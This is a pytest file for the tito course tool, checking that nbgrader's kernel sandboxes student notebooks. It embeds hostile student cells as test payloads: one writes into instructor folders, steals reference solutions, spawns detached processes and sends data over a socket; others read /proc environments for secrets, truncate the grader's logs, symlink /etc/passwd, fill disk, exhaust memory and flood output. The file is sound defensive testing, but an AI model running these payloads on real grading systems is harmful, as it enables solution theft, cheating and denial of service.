"""nbgrader's kernel runs the student's code in tito's isolation (tito/nbgrader_kernel.py).

`nbgrader autograde` runs the whole submitted notebook in a Jupyter kernel. tito's judge decides the
points before that kernel starts (tito/nbgrader_judge.py), but the kernel itself ran the student's
code as the instructor: it could write the checkout and the course folder, read the reference
solutions in COURSE/source and print them into the outputs `generate_feedback` hands the student,
leave a process running, and reach the network. One autograde run of two submissions of module 09,
both the reference with a free cell of the student's own: an attack that tries all four, and an
honest print. Now the attack reaches none of them, both score what `tito grade` gives, and the
kernel's outputs (the print, the lesson's figures) are still there.
"""
from __future__ import annotations

import json
import os
import secrets
import signal
import socket
import sys
import threading
from pathlib import Path

import nbformat
import pytest

from tito import main, paths
from tito.grading import processes

pytest.importorskip("nbgrader", reason="nbgrader 0.9.6 is in the dev extra on Python 3.11 and newer: pip install -e \".[dev]\"")
sys.path.insert(0, str(Path(__file__).resolve().parent))
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "grading"))
import submissions_09 as subs  # noqa: E402  tests/grading/submissions_09
from submissions_09.wrong import WRONG  # noqa: E402
from test_nbgrader import ASSIGNMENT, nbgrader  # noqa: E402

if subs.MODULE is None:
    pytest.skip("src/09_convolutions does not exist", allow_module_level=True)

# instructor tests: `tito dev release` reads the course's notebooks, which a student's working copy has edited
# (skipped there, never in CI: tests/conftest.py)
pytestmark = pytest.mark.reference_only

MARKER = f"h55-{secrets.token_hex(6)}"

# A free cell (no nbgrader metadata: never graded) near the top, as a student would write it once
# they know where the course lives (a traceback or a shared machine shows the paths).
ATTACK = '''\
# scratch: just checking my setup
import json, os, shutil, socket, subprocess, sys

for folder in ({checkout!r}, {course!r}):
    try:
        with open(os.path.join(folder, "{marker}.txt"), "w") as handle:
            handle.write("hello")
        print("wrote into", folder)
    except OSError as error:
        print("cannot write into", folder, error)

try:
    with open({source!r}) as handle:
        cells = json.load(handle)["cells"]
    solution = next("".join(cell["source"]) for cell in cells if "### BEGIN SOLUTION" in "".join(cell["source"]))
    print("LEAKED:", solution[solution.index("### BEGIN SOLUTION"):][:400])
except Exception as error:
    print("no solution:", error)

for command in (["sleep", "600"], [sys.executable, "-c", "import time; time.sleep(600)"]):
    try:
        subprocess.Popen(command, start_new_session=True, env=dict(os.environ, MY_MARK="{marker}"),
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        print("started", command[0])
    except OSError as error:
        print("cannot start", command[0], error)

try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
        connection.sendall(b"{marker}")
    print("sent it out")
except OSError as error:
    print("no network:", error)
'''

HONEST = 'print("my own check:", 6 * 7)\n'


def with_cell(nb: nbformat.NotebookNode, source: str) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(nbformat.from_dict(nb))  # deep copy
    nb.cells.insert(2, nbformat.v4.new_code_cell(source))
    return nb


def markers_alive() -> list[int]:
    """Processes whose environment holds MARKER (the attack's detached ones)."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/environ", "rb") as handle:
                    if f"MY_MARK={MARKER}".encode() in handle.read():
                        found.append(int(entry))
            except OSError:
                continue
    return found


class Listener:
    """A TCP port on this machine's loopback; remembers what reaches it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = b""
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(5)
                try:
                    self.received += connection.recv(1024)
                except OSError:
                    pass


@pytest.fixture(scope="module")
def autograded(tmp_path_factory):
    if not sys.platform.startswith("linux"):
        pytest.skip("the attack paths are Linux's")
    tmp = tmp_path_factory.mktemp("kernel")
    course = tmp / "course"
    checkout = paths.repo_root(Path(__file__).parent)
    assert main.main(["dev", "release", "--nbgrader", str(course), "09"]) == 0
    nbgrader(course, "generate_assignment", ASSIGNMENT)
    student = nbformat.read(str(course / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), as_version=4)
    listener = Listener()
    attack = ATTACK.format(checkout=str(checkout), course=str(course), marker=MARKER, port=listener.port,
                           source=str(course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"))
    reference = subs.build(student=student)
    submissions = {"mallory": with_cell(reference, attack), "alice": with_cell(reference, HONEST)}
    for name, nb in submissions.items():
        path = course / "submitted" / name / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        path.parent.mkdir(parents=True)
        nbformat.write(nb, str(path))
    written = [checkout / f"{MARKER}.txt", course / f"{MARKER}.txt"]
    try:
        log = nbgrader(course, "autograde", ASSIGNMENT)
        alive = markers_alive()
        yield {"course": course, "log": log, "alive": alive, "written": [p for p in written if p.exists()],
               "received": listener.received, "submissions": submissions, "tmp": tmp}
    finally:
        listener.server.close()
        for path in written:
            path.unlink(missing_ok=True)  # before the change the attack wrote them
        for pid in markers_alive():
            try:
                os.kill(pid, signal.SIGKILL)  # before the change the attack's sleepers outlived autograde
            except OSError:
                pass


def outputs_text(nb: nbformat.NotebookNode) -> str:
    texts = []
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            texts.append(output.get("text", "") + json.dumps(output.get("data", {})) + output.get("evalue", ""))
    return "\n".join(texts)


def autograded_notebook(course: Path, student: str) -> nbformat.NotebookNode:
    return nbformat.read(str(course / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), as_version=4)


@pytest.mark.slow
def test_the_kernel_reaches_nothing_of_the_instructors_and_scores_what_tito_gives(autograded, capsys):
    if not processes.isolation().namespaces:
        pytest.skip("no namespaces here: the kernel runs as before, and autograde's log says so")
    course = autograded["course"]
    attack_cell = autograded_notebook(course, "mallory").cells[2]
    said = outputs_text(nbformat.v4.new_notebook(cells=[attack_cell]))
    with capsys.disabled():
        print("\nthe attack cell, as the kernel ran it:\n" + said)
    assert "cannot write into" in said and "no network:" in said, said  # it ran, and failed
    assert autograded["written"] == []                                  # (a) neither the checkout nor the course
    assert "LEAKED:" not in outputs_text(autograded_notebook(course, "mallory"))  # (b) no reference solution
    assert "### BEGIN SOLUTION" not in said
    assert autograded["alive"] == []                                    # (c) nothing outlives the kernel
    assert autograded["received"] == b""                                # (d) no network
    # The points are tito's, item by item.
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        theirs = {grade.name: grade.score for grade in
                  gradebook.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, "mallory").grades}
    report = autograded["tmp"] / "mallory.json"
    submitted = course / "submitted" / "mallory" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert main.main(["grade", "09", str(submitted), "--json", str(report)]) == 0
    ours = json.loads(report.read_text())
    assert theirs == {test["id"]: test["points_earned"] for test in ours["tests"]}
    assert ours["total"] == ours["max"]  # the reference's code: full marks


@pytest.mark.slow
def test_the_kernel_still_shows_the_notebooks_outputs(autograded):
    nb = autograded_notebook(autograded["course"], "alice")
    assert [output.text for output in nb.cells[2].outputs] == ["my own check: 42\n"]
    errors = [output for cell in nb.cells for output in cell.get("outputs", []) if output.output_type == "error"]
    assert errors == [], errors  # the whole lesson runs with the package copy's modules (H61: only those it imports)
    figures = [output for cell in nb.cells for output in cell.get("outputs", []) if "image/png" in output.get("data", {})]
    assert figures, "the lesson's figures are gone from the kernel's outputs"
    graded = [cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade")]
    assert graded and all(cell.outputs[0].text.startswith("tito's judge: passed") for cell in graded)


# ---------------------------------------------------------------- the kernel alone, without autograde

def kernel_run(course: Path, folder: Path, code: str) -> str:
    """What `code` prints in the course's kernel started (as nbgrader's Execute starts it: the course's
    configuration, the notebook's folder as working folder) in `folder`."""
    from jupyter_client.manager import KernelManager
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader("nbgrader_config.py", path=str(course)).load_config()
    manager = KernelManager(kernel_name="tinytorch", config=config)
    manager.start_kernel(cwd=str(folder))
    client = manager.client()
    client.start_channels()
    try:
        client.wait_for_ready(timeout=120)
        printed = []
        reply = client.execute_interactive(code, timeout=120, output_hook=lambda msg: printed.append(
            msg["content"].get("text", "") if msg["msg_type"] == "stream" else
            "\n".join(msg["content"].get("traceback", [])) if msg["msg_type"] == "error" else ""))
        assert reply["content"]["status"] == "ok", "".join(printed)
        return "".join(printed)
    finally:
        client.stop_channels()
        manager.shutdown_kernel(now=True)


VIEW = '''\
import json, os, socket, sys
seen = {{"uid": os.getuid(), "processes": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
        "visible": {{path: os.path.exists(path) for path in {paths!r}}}, "cwd": os.getcwd()}}
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=5).close()
    seen["network"] = True
except OSError as error:
    seen["network"] = str(error)
import tinytorch.core.tensor
seen["tinytorch"] = tinytorch.__file__
try:
    import inspect
    import tinytorch.core.spatial
    seen["graded module"] = tinytorch.core.spatial.__file__
    seen["avgpool2d_loops"] = inspect.getsource(tinytorch.core.spatial.avgpool2d_loops)
except ImportError as error:
    seen["graded module"] = str(error)
with open("data.txt") as handle:
    seen["data"] = handle.read()
with open("data.txt", "w") as handle:
    handle.write("changed")
try:
    with open("answers.ipynb") as handle:
        seen["link"] = handle.read()[:50]
except OSError as error:
    seen["link"] = str(error)
environs = []
for pid in os.listdir("/proc"):
    try:
        with open(f"/proc/{{pid}}/environ", "rb") as handle:
            environs.append(handle.read())
    except OSError:
        pass
seen["secret"] = "H55_SECRET" in os.environ or any(b"H55_SECRET" in environ for environ in environs)
print("SEEN", json.dumps(seen))
'''


@pytest.fixture
def course(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("JUPYTER_PATH", "")  # the course's configuration sets it; restored afterwards
    course = tmp_path / "course"
    assert main.main(["dev", "release", "--nbgrader", str(course), "09"]) == 0
    capsys.readouterr()
    return course


@pytest.mark.parametrize("mode", ["as tito's user",
                                  pytest.param("in a user namespace", marks=pytest.mark.slow)])  # the non-slow suite's time
def test_the_kernel_sees_its_folder_and_the_package_with_the_students_own_module(course, tmp_path, monkeypatch, mode):
    """The kernel's file system is an allow-list: no checkout, no COURSE/source, no gradebook, not the
    instructor's HOME; a copy of its folder (links copied as links), tinytorch with the graded module
    exported from the student's notebook; no network, nothing of the machine's processes or nbgrader's environment, a user id of its
    own when tito is root.
    A `tito` package or `json.py` in the student's folder is not what starts the kernel. The same holds in the
    mode an instructor who is not root gets (an unprivileged user namespace: TITO_USER_NAMESPACE=1 takes it even
    as root), the user id aside."""
    iso = processes.isolation()
    if not iso.namespaces:
        pytest.skip("no namespaces here: the kernel runs as before")
    if mode == "in a user namespace":
        monkeypatch.setenv(processes.USER_NAMESPACE_ENV, "1")   # the kernel's launcher reads it (a process of its own)
        iso = processes.Isolation(iso.prefix, own_uid=False, userns=True)
    checkout = paths.repo_root(Path(__file__).parent)
    folder = course / "submitted" / "eve" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / "data.txt").write_text("my data")
    exercise, body = WRONG["avgpool_divide_kh_squared"]
    nbformat.write(subs.build({exercise: body}), str(folder / f"{ASSIGNMENT}.ipynb"))  # eve's submission
    (folder / "answers.ipynb").symlink_to(course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    for name in ("tito/__init__.py", "tito/nbgrader_kernel.py", "json.py", "shutil.py"):  # as the instructor?
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(f"open({str(tmp_path / 'ran-as-instructor')!r}, 'w').write({name!r})\n")
    (course / "gradebook.db").write_text("")
    other = course / "submitted" / "bob" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"  # another student's submission
    other.parent.mkdir(parents=True)
    other.write_text("{}")
    monkeypatch.setenv("H55_SECRET", "the instructor's token")  # nbgrader's environment
    listener = Listener()
    # the checkout's own files (its folder itself may show as a bare stem when the venv lives inside it, as in CI)
    shown = [str(checkout / "README.md"), str(checkout / "src"), str(checkout / "tinytorch" / "core"),
             str(checkout / "tito" / "grading"), str(course / "source"), str(course / "gradebook.db"),
             str(Path.home() / ".cache"), str(other), str(folder / "data.txt")]
    printed = kernel_run(course, folder, VIEW.format(paths=shown, port=listener.port))
    listener.server.close()
    seen = json.loads(printed.split("SEEN ", 1)[1])
    assert not (tmp_path / "ran-as-instructor").exists()
    visible = seen["visible"]
    assert [path for path in shown if visible[path]] == [str(folder / "data.txt")], visible
    assert seen["cwd"] == str(folder) and seen["data"] == "my data"
    assert (folder / "data.txt").read_text() == "my data"  # it wrote its copy
    assert "No such file" in seen["link"], seen["link"]
    assert seen["network"] is not True and listener.received == b""
    assert seen["secret"] is False
    assert seen["tinytorch"] == "/tmp/.tito-lib/tinytorch/__init__.py"
    # the graded module is eve's export, never the reference (a solution)
    assert seen["graded module"] == "/tmp/.tito-lib/tinytorch/core/spatial.py", seen["graded module"]
    assert "total / (kh * kh)" in seen["avgpool2d_loops"], seen["avgpool2d_loops"]
    assert len(seen["processes"]) <= 3, seen["processes"]  # the namespace's PID 1, the kernel (and its ldd child gone)
    if iso.own_uid:
        assert seen["uid"] not in (0, os.getuid()), seen["uid"]
    else:   # a nested user namespace that maps no user: not even root of its own namespace
        assert seen["uid"] != 0, seen["uid"]


def test_without_namespaces_the_kernel_runs_as_before_and_autograde_says_so_once(course, monkeypatch, caplog):
    from tito import nbgrader_judge
    from tito.nbgrader_judge import TitoGrade

    monkeypatch.setattr(nbgrader_judge, "_SAID", set())
    monkeypatch.setenv(processes.NO_NAMESPACES_ENV, "1")
    processes.isolation.cache_clear()
    try:
        folder = course / "submitted" / "eve" / ASSIGNMENT
        folder.mkdir(parents=True)
        printed = kernel_run(course, folder, "import os; print('uid', os.getuid(), os.getcwd())")
        assert printed == f"uid {os.getuid()} {folder}\n"
        nb = nbformat.v4.new_notebook()
        with caplog.at_level("WARNING"):
            for _ in range(2):
                TitoGrade(python="/nonexistent/python3").preprocess(nb, {"nbgrader": {"notebook": ASSIGNMENT}})
        said = [record.getMessage() for record in caplog.records if "nbgrader's kernel" in record.getMessage()]
        assert len(said) == 1 and "off: PID and mount namespaces" in said[0], said
    finally:
        monkeypatch.delenv(processes.NO_NAMESPACES_ENV)
        processes.isolation.cache_clear()


def test_without_a_notebook_to_export_the_kernel_has_no_graded_module(course):
    if not processes.isolation().namespaces:
        pytest.skip("no namespaces here: the kernel runs as before")
    folder = course / "submitted" / "eve" / ASSIGNMENT  # 09b_going_further alone, say
    folder.mkdir(parents=True)
    printed = kernel_run(course, folder, """\
import tinytorch.core.tensor
try:
    import tinytorch.core.spatial
    print("graded module", tinytorch.core.spatial.__file__)
except ImportError as error:
    print(error)
""")
    assert printed == "No module named 'tinytorch.core.spatial'\n", printed


NBGRADER_DIES = '''\
import os, sys, time
from jupyter_client.manager import KernelManager
from traitlets.config.loader import PyFileConfigLoader

config = PyFileConfigLoader("nbgrader_config.py", path=sys.argv[1]).load_config()
manager = KernelManager(kernel_name="tinytorch", config=config)
manager.start_kernel(cwd=sys.argv[2])
client = manager.client()
client.start_channels()
client.wait_for_ready(timeout=120)
reply = client.execute_interactive(
    "import os, subprocess, sys\\n"
    "sleeper = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)'], start_new_session=True,\\n"
    "                           env=dict(os.environ, MY_MARK=%r))" % sys.argv[3], timeout=60)
print("ready", reply["content"]["status"], reply["content"].get("evalue", ""), flush=True)
time.sleep(600)
'''


def test_the_kernel_and_what_it_started_die_with_nbgrader(course, tmp_path):
    """nbgrader killed (SIGKILL: no shutdown of its kernel) takes the kernel's namespace with it."""
    import subprocess
    import time

    if not processes.isolation().namespaces:
        pytest.skip("no namespaces here: the kernel runs as before")
    folder = course / "submitted" / "eve" / ASSIGNMENT
    folder.mkdir(parents=True)
    script = tmp_path / "nbgrader_dies.py"
    script.write_text(NBGRADER_DIES)
    host = subprocess.Popen([sys.executable, str(script), str(course), str(folder), MARKER], stdout=subprocess.PIPE,
                            text=True, env=dict(os.environ, JUPYTER_PATH=str(course / "jupyter")))
    try:
        line = host.stdout.readline()
        assert line == "ready ok \n", line
        assert markers_alive(), "the kernel's process did not start"
    finally:
        host.kill()
        host.wait()
    deadline = time.monotonic() + 10
    while markers_alive() and time.monotonic() < deadline:
        time.sleep(0.1)
    alive = markers_alive()
    for pid in alive:
        os.kill(pid, signal.SIGKILL)
    assert alive == []


# A free cell: the kernel's one folder on the grader's disk is where its sockets are (nbgrader must reach
# them); a student who finds it (the connection info says where) fills the disk from there, and puts a link
# and a pipe where nbgrader looks for sockets.
FILL_THE_DISK = '''\
import json, os
from ipykernel.connect import get_connection_info

here = os.path.dirname(json.loads(get_connection_info())["ip"])
done = []
try:
    for n in range(3):  # a loop to the disk's end, in the real thing
        with open(os.path.join(here, f"filler-{n}.bin"), "wb") as handle:
            handle.write(b"0" * 1_000_000)
        done.append(f"filler-{n}")
except OSError as error:
    print("cannot fill:", error)
for make, name in ((lambda path: os.symlink("/etc/passwd", path), "kernel-9"), (os.mkfifo, "kernel-8")):
    try:
        make(os.path.join(here, name))
        done.append(name)
    except OSError as error:
        print("cannot make", name + ":", error)
try:
    os.unlink(os.path.join(here, "kernel-5"))  # the heartbeat's socket: gone for good
    done.append("unlinked kernel-5")
except OSError as error:
    print("cannot unlink:", error)
print("DONE", json.dumps(done))
'''


def test_the_kernel_cannot_write_into_its_sockets_folder_on_the_graders_disk(course):
    """The sockets folder is the one folder of the grader's disk in the kernel's file system, and it had
    to be writable for ipykernel to bind its sockets there. Before H61 a free cell wrote files into it
    (1 MB each here, up to the whole disk: 256 MB a file, any number of files) and made a link, a pipe and
    removed a socket; now, once the kernel has bound its sockets (before any of the notebook runs), its
    view of that folder is read-only."""
    if not processes.isolation().namespaces:
        pytest.skip("no namespaces here: the kernel runs as before")
    folder = course / "submitted" / "eve" / ASSIGNMENT
    folder.mkdir(parents=True)
    printed = kernel_run(course, folder, FILL_THE_DISK)
    done = json.loads(printed.split("DONE ", 1)[1])
    assert done == [], printed
    assert printed.count("Read-only file system") == 4, printed


# A free cell in module 08's notebook: module 09 (convolutions) is next week's assignment.
NEXT_WEEKS_SOLUTION = '''\
import inspect, os
print("PACKAGE", sorted(os.listdir(os.path.dirname(__import__("tinytorch.core.tensor").core.tensor.__file__))))
try:
    import tinytorch.core.spatial
    print("NEXT WEEK:", inspect.getsource(tinytorch.core.spatial.avgpool2d_loops)[:300])
except ImportError as error:
    print("not there:", error)
'''


def test_the_kernel_has_only_the_modules_its_lesson_imports(course):
    """The kernel's package copy held every module's reference but the graded one's: module 08's kernel
    printed module 09's avgpool2d_loops (next week's solution) into the outputs generate_feedback hands
    back. Now it holds the modules the lesson imports (directly or through them): module 08's has
    01-07 (its lesson trains with autograd, optimizers and the data loader), not 09's spatial."""
    if not processes.isolation().namespaces:
        pytest.skip("no namespaces here: the kernel runs as before")
    folder = course / "submitted" / "eve" / "08_training"  # graded as module 08 (the folder's name)
    folder.mkdir(parents=True)
    printed = kernel_run(course, folder, NEXT_WEEKS_SOLUTION)
    assert "NEXT WEEK:" not in printed, printed
    assert "not there: No module named 'tinytorch.core.spatial'" in printed, printed
    package = json.loads(printed.split("PACKAGE ", 1)[1].splitlines()[0].replace("'", '"'))
    assert package == ["__init__.py", "activations.py", "autograd.py", "dataloader.py", "layers.py", "losses.py",
                       "optimizers.py", "tensor.py"], package  # no notebook to export here: no training.py either


# A free cell: an array the size of the grader's memory (np.zeros asks for it untouched, so the test asks
# safely; filling it, as the real thing would, is the machine's memory gone).
HUGE_ARRAY = '''\
import numpy as np
try:
    grid = np.zeros(6 * 2**30, dtype=np.uint8)
    print("GOT", grid.nbytes >> 30, "GiB")
except MemoryError as error:
    print("MemoryError:", error)
'''


def test_the_kernel_cannot_take_the_graders_memory(course):
    """The kernel had no address-space limit (tito grade's student process has 2 GiB): a cell got a 6 GiB
    array. Now each of its processes may map MEMORY_MB (4 GiB; module 09's whole lesson peaks at 1.2 GiB of
    address space in the kernel) and the same cell gets a MemoryError."""
    if not processes.isolation().namespaces:
        pytest.skip("no namespaces here: the kernel runs as before")
    folder = course / "submitted" / "eve" / ASSIGNMENT
    folder.mkdir(parents=True)
    printed = kernel_run(course, folder, HUGE_ARRAY)
    assert printed.startswith("MemoryError:"), printed


# A free cell: printing for as long as the cell may run (300 s in the course); 64 MB here.
FLOOD = '''\
for _ in range(64):
    print("x" * 1_000_000)
'''


def test_nbgraders_execute_keeps_at_most_16_mb_of_the_kernels_outputs(course):
    """What the isolated kernel prints comes back into nbgrader's process, which kept all of it in memory
    (1.2 GB for a cell printing 300 MB, measured) and wrote it into autograded/: a cell printing for its
    whole timeout took the grader's memory and disk. The course's Execute step (the configuration's, as
    autograde runs it) now keeps 16 MB of outputs a notebook, then one line saying the rest was dropped;
    the next cell's outputs are dropped too."""
    from nbgrader.preprocessors import Execute  # noqa: F401  (nbgrader's, what the course named before H61)
    from traitlets.config.loader import PyFileConfigLoader
    from traitlets.utils.importstring import import_item

    config = PyFileConfigLoader("nbgrader_config.py", path=str(course)).load_config()
    step = import_item(list(config.Autograde.autograde_preprocessors)[1])
    folder = course / "submitted" / "eve" / ASSIGNMENT
    folder.mkdir(parents=True)
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(FLOOD), nbformat.v4.new_code_cell('print("after")')])
    nb.metadata.kernelspec = {"name": "tinytorch", "display_name": "tinytorch", "language": "python"}
    executed, _ = step(config=config).preprocess(nb, {"metadata": {"path": str(folder)}})
    kept = sum(len(output.get("text", "")) for cell in executed.cells for output in cell.outputs)
    assert kept <= 16 * 1024 * 1024 + 1000, kept >> 20
    assert executed.cells[0].outputs[-1].text.startswith("tito: the kernel's outputs past 16 MB"), \
        executed.cells[0].outputs[-1].text[:80]
    assert executed.cells[1].outputs == []


def test_nbgraders_execute_starts_no_cell_after_the_notebooks_time(course):
    """Each cell had Execute.timeout (300 s) and the notebook no bound: 40 free cells sleeping 299 s each
    held autograde, and every submission after it, for 3 hours. The course's Execute step starts no cell
    after max_seconds (1200 s; 2 s here, three cells of 1.5 s): the third is not run and says so."""
    from traitlets.config.loader import PyFileConfigLoader
    from traitlets.utils.importstring import import_item

    config = PyFileConfigLoader("nbgrader_config.py", path=str(course)).load_config()
    step = import_item(list(config.Autograde.autograde_preprocessors)[1])
    config[step.__name__].max_seconds = 2.0
    folder = course / "submitted" / "eve" / ASSIGNMENT
    folder.mkdir(parents=True)
    stall = 'import time\ntime.sleep(1.5)\nprint("slept")\n'
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(stall) for _ in range(3)])
    nb.metadata.kernelspec = {"name": "tinytorch", "display_name": "tinytorch", "language": "python"}
    executed, _ = step(config=config).preprocess(nb, {"metadata": {"path": str(folder)}})
    said = [[output.text for output in cell.outputs] for cell in executed.cells]
    assert said[:2] == [["slept\n"], ["slept\n"]], said
    assert len(said[2]) == 1 and said[2][0].startswith("tito: not run"), said


# A free cell: ipykernel keeps copies of the stdout and stderr it was started with (nbgrader's), and a
# student who lists their file descriptors finds the instructor's log file there when autograde's output
# goes to one (`nbgrader autograde 09 > autograde.log 2>&1`): pytest's capture files, here.
THE_GRADERS_LOG = '''\
import os
for fd in sorted(os.listdir("/proc/self/fd"), key=int):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
        if target.startswith("/") and not target.startswith(("/tmp/home", "/dev/", "/proc")):
            os.ftruncate(int(fd), 0)
            print("TRUNCATED", target)
    except OSError as error:
        print("cannot", fd, error)
os.write(2, b"e" * 3_000_000)  # and then without end
print("DONE")
'''


def test_the_kernel_has_neither_nbgraders_stdout_nor_its_stderr(course, tmp_path):
    """Before H61 the kernel held nbgrader's stdout and stderr: when those were files (the instructor's
    log) a cell truncated both and could write into them without end. Now its stdout and stderr are a
    pipe to its PID 1, which passes at most 1 MB of it on to nbgrader's stderr."""
    if not processes.isolation().namespaces:
        pytest.skip("no namespaces here: the kernel runs as before")
    folder = course / "submitted" / "eve" / ASSIGNMENT
    folder.mkdir(parents=True)
    log = tmp_path / "autograde.log"  # `nbgrader autograde 09 > autograde.log 2>&1`
    saved = [os.dup(1), os.dup(2)]
    with open(log, "wb") as handle:
        handle.write(b"the grader's log, before the kernel\n")
        handle.flush()
        os.dup2(handle.fileno(), 1)
        os.dup2(handle.fileno(), 2)
        try:
            printed = kernel_run(course, folder, THE_GRADERS_LOG)
        finally:
            os.dup2(saved[0], 1)
            os.dup2(saved[1], 2)
            for fd in saved:
                os.close(fd)
    written = log.read_bytes()
    assert "TRUNCATED" not in printed and "DONE" in printed, printed
    assert written.startswith(b"the grader's log, before the kernel"), written[:100]
    assert written.count(b"e") < (1 << 20) + 1000, len(written)
    assert b"the rest of the kernel's stdout and stderr" in written, written[-300:]
